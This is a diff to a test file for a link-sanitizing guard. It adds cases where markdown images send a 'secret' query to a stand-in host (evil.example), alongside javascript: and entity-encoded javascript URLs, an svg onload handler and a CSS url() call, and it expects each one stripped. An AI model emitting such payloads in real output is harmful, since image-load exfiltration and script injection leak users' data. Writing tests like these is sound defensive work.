@@ -4,7 +4,8 @@ import { describe, expect, it } from 'vitest';
 import { createLinkGuard } from '../../src/engine/link-guard.ts';
 import type { Evidence } from '../../src/engine/ports.ts';
 
-const text = 'See https://docs.example/api for the API, [the guide](./guide.md), and https://docs.example/api/v2.';
+const text =
+  'See https://docs.example/api for the API, [the guide](./guide.md), [run](javascript:run()), [it](javascript&colon;run()), and https://docs.example/api/v2.';
 const evidence: Evidence[] = [
   {
     n: 1,
@@ -48,6 +49,20 @@ const cases: [string, string][] = [
     'In code `<img src="x.png">` stays, and so does\n\n```html\n<a href="x">y</a>\n```\n',
     'In code `<img src="x.png">` stays, and so does\n\n```html\n<a href="x">y</a>\n```\n',
   ],
+  ['A stray ` and ![a cat](https://evil.example/?q=secret) here.', 'A stray ` and a cat here.'],
+  ['A stray ` and ![a cat](//evil.example/?q=secret) here.', 'A stray ` and a cat here.'],
+  ['```\n```js\n```\n![a cat](//evil.example/x) here.', '```\n```js\n```\na cat here.'],
+  ['Plain text ```\nand ![a cat](//evil.example/x) here.', 'Plain text ```\nand a cat here.'],
+  ['Write <img/src=//evil.example/x> and <svg/onload=load()> not.', 'Write  and  not.'],
+  ['Write <img\nalt="a"\nsrc="//evil.example/x"> not.', 'Write  not.'],
+  ['Write <b style="background:url(//evil.example/x)">so</b>.', 'Write <b style="background:url()">so</b>.'],
+  ['Press <javascript:alert(1)>, not <host:port>.', 'Press <>, not <host:port>.'],
+  ['Run [this](javascript:run()) as shown.', 'Run [this] as shown.'],
+  ['Run [this](javascript&colon;run()) as shown.', 'Run [this] as shown.'],
+  ['See ![a] or [b].\n\n[a]: //evil.example/x\n[b]: <javascript:run()>', 'See ![a] or [b].\n\n[a]: \n[b]: <>'],
+  ['[a]: https://docs.example/api\n[b]: guide.md', '[a]: https://docs.example/api\n[b]: guide.md'],
+  ['In code `![a cat](https://evil.example/x)` only its address goes.', 'In code `![a cat]()` only its address goes.'],
+  ['In code `list[0](x)` and `map[key]: value` stay.', 'In code `list[0](x)` and `map[key]: value` stay.'],
   ['A list[1] and [2] and a [note] stay. [1][2]', 'A list[1] and [2] and a [note] stay. [1][2]'],
   [
     'The ratio a:b, the time 10:30, what he says: "who", w and h.',
